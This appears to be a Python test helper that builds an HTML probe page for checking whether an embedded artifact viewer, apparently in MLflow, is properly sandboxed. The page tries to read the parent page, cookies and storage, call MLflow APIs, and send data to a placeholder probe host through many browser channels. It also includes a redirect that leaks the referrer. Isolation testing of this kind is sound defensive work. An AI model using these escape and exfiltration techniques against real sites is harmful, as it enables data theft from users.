"""A page that takes what it can get, and tells what it got: nothing, if it is shown apart."""

from __future__ import annotations

ATTEMPTS = (
    "parent", "top", "cookie", "storage", "session", "database", "caches", "address",
    "read", "written", "fetched", "requested", "socket", "events", "beacon", "image", "script",
    "style", "font", "film", "frame", "worker", "popup", "rtc",
)  # fmt: skip
"""What is tried; the page says of each that it was refused, or what came of it."""

_PAGE = """<!doctype html>
<h1>Report</h1>
<link rel="preload" as="image" href="PROBE/preload">
<link rel="prefetch" href="PROBE/prefetch">
<link rel="preconnect" href="PROBE">
<link rel="dns-prefetch" href="PROBE">
<meta http-equiv="refresh" content="3600;url=PROBE/refresh">
<form id="form" method="post" action="PROBE/form" target="_top"><input name="a" value="b"></form>
<a id="link" href="PROBE/link" target="_top" ping="PROBE/ping">on</a>
<script>
const probe = 'PROBE'
const told = {}
const loaded = (make) => new Promise((resolve) => {
  const one = make()
  one.onload = one.oncanplay = () => resolve('loaded')
  one.onerror = () => resolve('refused')
  document.body.append(one)
})
const tag = (name, fields) => Object.assign(document.createElement(name), fields)
const gathered = () => new Promise((resolve, reject) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] })
  const found = []
  peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.type)
  peer.onicegatheringstatechange = () =>
    peer.iceGatheringState === 'complete' && resolve(found.includes('srflx') ? 'found' : 'refused')
  peer.createDataChannel('out')
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(reject)
})
const opened = (one) => new Promise((resolve) => {
  one.onopen = one.onmessage = () => resolve('open')
  one.onerror = () => resolve('refused')
})
const post = { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' },
  body: JSON.stringify({ name: 'made by a page' }) }
const tries = {
  parent: () => parent.document.title,
  top: () => { top.location = probe + '/top'; return 'left' },
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => indexedDB.open('x').toString(),
  caches: () => caches.keys(),
  address: () => parent.location.href,
  read: () => fetch('/api/2.0/mlflow/experiments/search?max_results=1').then((one) => one.text()),
  written: () => fetch('/api/2.0/mlflow/experiments/create', post).then(() => 'sent'),
  fetched: () => fetch(probe + '/fetch', { mode: 'no-cors' }).then(() => 'sent'),
  requested: () => new Promise((resolve) => {
    const one = new XMLHttpRequest()
    one.onload = () => resolve('sent')
    one.onerror = () => resolve('refused')
    one.open('GET', probe + '/xhr')
    one.send()
  }),
  socket: () => opened(new WebSocket(probe.replace('http', 'ws') + '/socket')),
  events: () => opened(new EventSource(probe + '/events')),
  beacon: () => (navigator.sendBeacon(probe + '/beacon', 'x'), 'asked'),
  image: () => loaded(() => tag('img', { src: probe + '/image' })),
  script: () => loaded(() => tag('script', { src: probe + '/script' })),
  style: () => loaded(() => tag('link', { rel: 'stylesheet', href: probe + '/style' })),
  font: () => new FontFace('f', 'url(' + probe + '/font)').load().then(() => 'loaded'),
  film: () => loaded(() => tag('video', { src: probe + '/film', preload: 'auto' })),
  frame: () => (document.body.append(tag('iframe', { src: probe + '/frame' })), 'asked'),
  worker: () => new Promise((resolve) => {
    const told = '.then(() => postMessage("sent"), () => postMessage("refused"))'
    const text = 'fetch("' + probe + '/worker")' + told
    const one = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
    one.onmessage = ({ data }) => resolve(data)
    one.onerror = () => resolve('refused')
  }),
  popup: () => (open(probe + '/popup') === null ? 'refused' : 'open'),
  rtc: gathered,
}
document.getElementById('form').submit()
document.getElementById('link').click()
parent.postMessage('ready', '*')
const one = async ([name, attempt]) => {
  try {
    told[name] = await attempt()
  } catch (error) {
    told[name] = error.name
  }
}
Promise.all(Object.entries(tries).map(one)).then(() => {
  document.body.append(tag('pre', { id: 'told', textContent: JSON.stringify(told) }))
})
</script>
"""


def attack(probe: str) -> bytes:
    """The page; *probe* is `host:port` of who would hear from it, by HTTP and by UDP."""
    return _PAGE.replace("PROBE", f"http://{probe}").replace("STUN", probe).encode()


def leaving(probe: str) -> bytes:
    """A page that goes to *probe* itself, and takes along what it has seen."""
    script = f"location = 'http://{probe}/left?' + encodeURIComponent(document.referrer)"
    return f"<p>Off</p><script>{script}</script>".encode()
